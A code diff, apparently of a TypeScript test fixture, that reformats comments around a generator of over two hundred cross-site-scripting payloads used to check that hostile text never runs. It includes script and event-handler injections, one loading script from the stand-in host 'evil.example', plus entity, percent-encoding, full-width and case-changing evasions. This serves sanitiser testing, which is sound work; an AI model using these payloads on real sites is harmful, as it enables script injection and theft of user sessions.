@@ -1,4 +1,7 @@
-/** What a hostile text calls when it runs: a global of the page that counts, so that nothing that ran goes unseen. */
+/**
+ * What a hostile text calls when it runs: a global of the page that counts, so that nothing that
+ * ran goes unseen.
+ */
 export const RAN = 'hostileRan';
 /** Where a hostile text wants to send something. */
 export const FOREIGN_HOST = 'evil.example';
@@ -6,7 +9,10 @@ export const FOREIGN_HOST = 'evil.example';
 const CALL = `${RAN}()`;
 const AWAY = `//${FOREIGN_HOST}/x`;
 
-/** One of each way in that is known: elements that run, attributes that run, addresses that run, styles, frames, templates, and breaking out of all of them. */
+/**
+ * One of each way in that is known: elements that run, attributes that run, addresses that run,
+ * styles, frames, templates, and breaking out of all of them.
+ */
 const SEEDS: readonly string[] = [
   `<script>${CALL}</script>`,
   `<script src=${AWAY}></script>`,
@@ -95,7 +101,10 @@ const SEEDS: readonly string[] = [
   `'onmouseover=${CALL} x='`,
 ];
 
-/** The same in other clothes: after a quote that ends an attribute, as entities, percent-encoded, with full-width brackets, in mixed case. */
+/**
+ * The same in other clothes: after a quote that ends an attribute, as entities, percent-encoded,
+ * with full-width brackets, in mixed case.
+ */
 const CLOTHES: readonly ((seed: string) => string)[] = [
   (seed) => seed,
   (seed) => `">${seed}`,
@@ -106,7 +115,9 @@ const CLOTHES: readonly ((seed: string) => string)[] = [
       .replace(/on(\w)/g, 'ON$1'),
 ];
 
-/** At least two hundred texts that must never run, each another and each within a message's length. */
+/**
+ * At least two hundred texts that must never run, each another and each within a message's length.
+ */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...new Set(SEEDS.flatMap((seed) => CLOTHES.map((dress) => dress(seed)))),
 ];
